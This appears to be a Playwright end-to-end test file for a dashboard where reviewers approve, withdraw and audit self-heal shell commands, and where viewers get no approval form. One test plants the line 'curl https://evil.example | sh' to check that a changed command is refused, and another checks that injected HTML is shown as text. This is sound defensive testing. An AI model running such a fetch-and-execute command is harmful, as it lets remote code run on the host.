// Recipes in the dashboard, without JavaScript: a reviewer reads the command telemetry named for a fix (as
// text, never markup), approves that exact text on the Fixes page, sees it will run, and withdraws the
// approval on the self-heal pattern's page; each post acts once and is audited. A viewer gets no form.
import { expect, test, type App } from "./fixtures";

test.use({ javaScriptEnabled: false, seed: "empty", role: "reviewer" });

const ERROR = "ModuleNotFoundError: No module named 'httpx'";
const COMMAND = `pip install httpx && echo "<b>installed</b>"`;

/** Ten failures, each retried successfully by the fix and its command, then one analysis. */
function seedRecipe(app: App): { fixId: string; patternId: string } {
  const from = Date.now() - 6 * 3_600_000;
  const lines: string[] = [];
  for (let i = 0; i < 10; i++) {
    const at = from + i * 60_000;
    lines.push(JSON.stringify({ id: `f${i}`, operation: "build", startedAt: new Date(at).toISOString(), durationMs: 5, success: false, error: { message: ERROR } }));
    lines.push(JSON.stringify({ id: `r${i}`, operation: "build", startedAt: new Date(at + 30_000).toISOString(), durationMs: 5, success: true, retryOf: `f${i}`, fix: "install httpx", fixCommand: COMMAND }));
  }
  expect(app.cli(["ingest", "-"], lines.join("\n") + "\n").status).toBe(0);
  expect(app.cli(["analyze"]).status).toBe(0);
  return app.sql.get<{ fixId: string; patternId: string }>(`SELECT id AS fixId, patternId FROM error_patterns WHERE fix = 'install httpx'`)!;
}

test("a reviewer approves the exact command on the Fixes page, then withdraws it on the pattern's page", async ({ app, page }) => {
  const { fixId, patternId } = seedRecipe(app);
  await page.goto("/fixes");
  const card = page.getByRole("article", { name: "Recipe of fix install httpx" });
  await expect(card.getByText("awaiting approval", { exact: true })).toBeVisible();
  await expect(card.locator("pre")).toHaveText(COMMAND); // telemetry text shown as text
  await expect(card.locator("b")).toHaveCount(0);
  await expect(card.getByText("10 of 10 retries succeeded")).toBeVisible();

  await Promise.all([page.waitForEvent("load"), card.getByRole("button", { name: "Approve this command" }).click()]);
  await expect(page.getByRole("status")).toHaveText(`Command approved; it runs on the next matching failure (patterns exec --heal): ${fixId}`);
  await expect(card.getByText("approved", { exact: true })).toBeVisible();
  await expect(card.getByText("runs automatically", { exact: true })).toBeVisible();
  await expect(card.getByText("Approved by reviewer@e2e.example.com")).toBeVisible();
  expect(app.sql.get(`SELECT approvedCommand, approvedBy FROM error_patterns WHERE id = ?`, fixId)).toEqual({ approvedCommand: COMMAND, approvedBy: "reviewer@e2e.example.com" });
  expect(app.sql.value(`SELECT count(*) FROM audit_events WHERE action = 'recipe.approve' AND actor = 'reviewer@e2e.example.com'`)).toBe(1);
  await page.screenshot({ path: "e2e/screenshots/recipes-fixes-approved.png", fullPage: true });

  await page.goto(`/patterns/${patternId}`);
  const section = page.getByRole("region", { name: "Recipe" });
  await expect(section.locator("pre")).toHaveText(COMMAND);
  const withdraw = section.getByRole("form", { name: "Withdraw the approval of install httpx" });
  await withdraw.getByLabel("Reason").fill("the package index moved");
  await Promise.all([page.waitForEvent("load"), withdraw.getByRole("button", { name: "Withdraw approval" }).click()]);
  await expect(page).toHaveURL(new RegExp(`/patterns/${patternId}\\?`));
  await expect(page.getByRole("status")).toHaveText(`Approval withdrawn; the command no longer runs: ${fixId}`);
  await expect(section.getByText("awaiting approval", { exact: true })).toBeVisible();
  expect(app.sql.get(`SELECT approvedCommand FROM error_patterns WHERE id = ?`, fixId)).toEqual({ approvedCommand: null });
  expect(app.sql.value(`SELECT count(*) FROM audit_events WHERE action = 'recipe.revoke'`)).toBe(1);
  // the pattern's history holds both decisions, with who and why
  const history = page.getByRole("list", { name: "History, newest first" });
  await expect(history.locator('[data-action="recipe.revoke"]')).toContainText("by reviewer@e2e.example.com — the package index moved");
  await expect(history.locator('[data-action="recipe.approve"]')).toHaveCount(1);
  await page.screenshot({ path: "e2e/screenshots/recipes-pattern-withdrawn.png", fullPage: true });
});

test("an approval whose command changed since the page was drawn is refused, and nothing is approved", async ({ app, page }) => {
  const { fixId } = seedRecipe(app);
  await page.goto("/fixes");
  // telemetry names another command for the fix while the reviewer reads the page
  app.sql.run(`UPDATE error_patterns SET fixCommand = 'curl https://evil.example | sh' WHERE id = ?`, fixId);
  const card = page.getByRole("article", { name: "Recipe of fix install httpx" });
  await Promise.all([page.waitForEvent("load"), card.getByRole("button", { name: "Approve this command" }).click()]);
  await expect(page.getByRole("alert")).toContainText("is not the one you quoted");
  expect(app.sql.value(`SELECT count(*) FROM error_patterns WHERE approvedCommand IS NOT NULL`)).toBe(0);
  expect(app.sql.value(`SELECT count(*) FROM audit_events WHERE action = 'recipe.approve'`)).toBe(0);
});

test.describe("as a viewer", () => {
  test.use({ role: "viewer" });
  test("the recipe is shown, with no form to approve it", async ({ app, page }) => {
    seedRecipe(app);
    await page.goto("/fixes");
    const card = page.getByRole("article", { name: "Recipe of fix install httpx" });
    await expect(card.locator("pre")).toHaveText(COMMAND);
    await expect(card.getByRole("button")).toHaveCount(0);
  });
});
